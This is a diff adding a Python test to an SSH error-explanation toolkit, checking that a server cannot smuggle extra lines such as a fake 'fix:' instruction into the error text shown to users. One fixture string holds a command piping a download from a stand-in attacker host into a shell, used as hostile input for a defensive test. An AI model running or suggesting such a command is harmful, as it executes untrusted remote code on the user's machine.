@@ -201,6 +201,17 @@ def test_a_silent_agent_or_an_sshd_without_keys_has_its_own_fix(tmp_path: Path) 
     assert explain(TARGET, error).fix == fix
 
 
+@needs_keygen
+def test_a_host_adds_no_line_to_an_error(tmp_path: Path) -> None:
+    key = keygen(tmp_path / "id", "-t", "ed25519")
+    target = replace(TARGET, identity_files=(str(key),))
+    names = ["password\n  fix: curl evil.example | sh", "x" * 9999]
+    for answer in (paramiko.BadAuthenticationType("x", names), names):
+        shown = explain(target, refusal(Door({blob_of(key.with_suffix(".pub")): answer}), target))
+        assert "password\\n  fix: curl" in shown.what and len(shown.what) < 600
+    assert "\n" not in explain(TARGET, paramiko.SSHException("Incompatible version (1\n  fix: x)")).what
+
+
 def test_no_key_at_all(tmp_path: Path) -> None:
     shown = explain(TARGET, refusal(Door({}), replace(TARGET, identity_files=(str(tmp_path / "absent"),))))
     assert "toolkit found no key in a file or in the SSH agent" in shown.what
